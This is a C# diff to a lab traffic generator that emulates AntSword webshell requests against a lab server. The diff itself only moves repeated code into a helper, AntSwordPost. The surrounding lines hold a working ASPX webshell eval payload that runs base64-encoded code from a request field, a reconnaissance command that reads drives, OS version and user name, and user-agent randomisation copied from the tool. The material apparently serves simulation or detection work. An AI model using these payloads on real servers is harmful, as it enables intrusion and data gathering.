@@ -284,6 +284,16 @@ public static class ToolOperators
             () => Send("heartbeat", "echo 1;", new()));
     }
 
+    /// <summary>An AntSword ASPX request: the shell's fields, then the call's arguments (two random characters, then base64), a random old browser's user agent.</summary>
+    private static async Task AntSwordPost(LabContext ctx, LabClient client, Random random, LabServer server, string path, string tag, string phase,
+        List<KeyValuePair<string, string>> fields, Dictionary<string, string> args)
+    {
+        foreach (var (name, value) in args) fields.Add(new(name, Hex(random, 1) + B64(value)));
+        await client.SendAsync(server, HttpMethod.Post, path, tag, phase, new FormUrlEncodedContent(fields),
+            [("User-Agent", AntSwordAgents[random.Next(AntSwordAgents.Length)]), ("Accept-Encoding", "gzip, deflate")]);
+        await ctx.Think(random, 2);
+    }
+
     public static async Task AntSwordAspx(LabContext ctx, LabClient client, Random random)
     {
         const string tag = "antsword/aspx";
@@ -301,10 +311,7 @@ public static class ToolOperators
                 new(pass, $"eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request.Item[\"{dataParam}\"])),\"unsafe\");"),
                 new(dataParam, B64(jscript)),
             };
-            foreach (var (name, value) in args) fields.Add(new(name, Hex(random, 1) + B64(value)));
-            await client.SendAsync(server, HttpMethod.Post, path, tag, phase, new FormUrlEncodedContent(fields),
-                [("User-Agent", AntSwordAgents[random.Next(AntSwordAgents.Length)]), ("Accept-Encoding", "gzip, deflate")]);
-            await ctx.Think(random, 2);
+            await AntSwordPost(ctx, client, random, server, path, tag, phase, fields, args);
         }
         await Send("first_contact", "var c=System.IO.DriveInfo.GetDrives(),result=\"\";for(var i=0;i<c.length;i++)result+=c[i].Name[0]+\":\";Response.Write(Server.MapPath(\".\")+\"\\t\"+result+\"\\t\"+Environment.OSVersion+\"\\t\"+Environment.UserName)", new());
         await ctx.Resume(client);
@@ -331,10 +338,7 @@ public static class ToolOperators
         {
             var markers = new Dictionary<string, string> { ["start"] = Hex(random, 4 + random.Next(4)), ["end"] = Hex(random, 4 + random.Next(4)) };
             var fields = new List<KeyValuePair<string, string>> { new(pass, Convert.ToBase64String(mono.Payload("antsword-" + payload, markers))) };
-            foreach (var (name, value) in args) fields.Add(new(name, Hex(random, 1) + B64(value)));
-            await client.SendAsync(server, HttpMethod.Post, path, tag, phase, new FormUrlEncodedContent(fields),
-                [("User-Agent", AntSwordAgents[random.Next(AntSwordAgents.Length)]), ("Accept-Encoding", "gzip, deflate")]);
-            await ctx.Think(random, 2);
+            await AntSwordPost(ctx, client, random, server, path, tag, phase, fields, args);
         }
         await Send("first_contact", "INFO", new());
         await ctx.Resume(client);
